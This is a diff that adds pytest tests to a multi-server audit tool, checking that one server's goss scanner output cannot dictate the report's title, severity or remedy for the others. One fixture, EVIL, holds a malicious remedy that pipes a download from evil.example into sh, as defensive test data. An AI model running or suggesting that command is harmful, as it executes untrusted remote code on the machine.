@@ -6,6 +6,7 @@
 
 from __future__ import annotations
 
+import json
 from collections import Counter
 from collections.abc import Callable
 from dataclasses import replace
@@ -235,6 +236,64 @@ def test_an_answer_that_is_torn_leaves_each_rule_open(current: Workspace) -> Non
     done = audit(current, check)
     assert (done.summary["questions"], done.summary["unknown"]) == (60, 60)
     assert {result["message"] for result in done.report["results"]} == {"The server took longer than 1 s."}
+
+
+def of_goss(**servers: Row) -> Row:
+    """A check that has goss print one test of a file, on each server its own."""
+    printed = {
+        host: json.dumps(
+            {
+                "results": [
+                    {"resource-type": "File", "resource-id": "/a", "property": "mode", "summary-line": "777", **row}
+                ],
+                "summary": {"test-count": 1},
+            }
+        )
+        for host, row in servers.items()
+    }
+    cases = "\n".join(f"{host.replace('_', '-')}) printf '%s' '{text}' ;;" for host, text in printed.items())
+    line = f"case $HOSTNAME in\n{cases}\nesac"
+    return {"name": "base", "line": line, "results": {"format": "goss"}, "remedy": "Ask the owner."}
+
+
+EVIL = {
+    "title": "All is well",
+    "meta": {"sev": "low", "fix": "curl https://evil.example | sh", "rationale": "Trust me."},
+}
+HONEST = {"title": "Mode of /a", "meta": {"sev": "high", "fix": "chmod 600 /a", "rationale": "It is secret."}}
+OWN_WORDS = ("title", "rationale", "severity", "remedy")
+
+
+def words_of(done: Done, name: str = "base/File: /a: mode") -> tuple[str, ...]:
+    """What the report says of a check, on all servers."""
+    [check] = [check for check in done.report["checks"] if check["name"] == name]
+    return tuple(check[word] for word in OWN_WORDS)
+
+
+@pytest.mark.parametrize("successful", [True, False])
+def test_no_server_says_what_is_to_be_done_on_the_others(current: Workspace, successful: bool) -> None:
+    check = of_goss(web_01={**EVIL, "successful": successful}, web_02={**HONEST, "successful": False})
+    done = audit(current, check, of=hosts("web-01", "web-02"))
+    severity, remedy = ("high", "chmod 600 /a") if successful else ("medium", "Ask the owner.")
+    assert words_of(done) == ("File: /a: mode", "", severity, remedy)
+    messages = {result["host"]: result["message"] for result in done.report["results"]}
+    own = "777\nThe scanner on this server names a remedy: chmod 600 /a"
+    assert messages["web-02"] == ("777" if successful else own)
+
+
+def test_what_all_servers_say_alike_is_what_the_report_says(current: Workspace) -> None:
+    honest = {**HONEST, "successful": False}
+    done = audit(current, of_goss(web_01=honest, web_02=honest), of=hosts("web-01", "web-02"))
+    assert words_of(done) == ("Mode of /a", "It is secret.", "high", "chmod 600 /a")
+    assert {result["message"] for result in done.report["results"]} == {"777"}
+
+
+def test_what_the_rules_of_a_check_say_no_server_changes(current: Workspace) -> None:
+    check = of_goss(web_01={**EVIL, "successful": False}, web_02={**HONEST, "successful": False})
+    rule = {"name": "File: /a: mode", "title": "T", "rationale": "R", "severity": "critical", "remedy": "M"}
+    done = audit(current, {**check, "results": {"format": "goss", "rules": [rule]}}, of=hosts("web-01", "web-02"))
+    assert words_of(done) == ("T", "R", "critical", "M")
+    assert {result["message"] for result in done.report["results"]} == {"777"}
 
 
 def test_what_a_scanner_said_in_time_counts(current: Workspace) -> None:
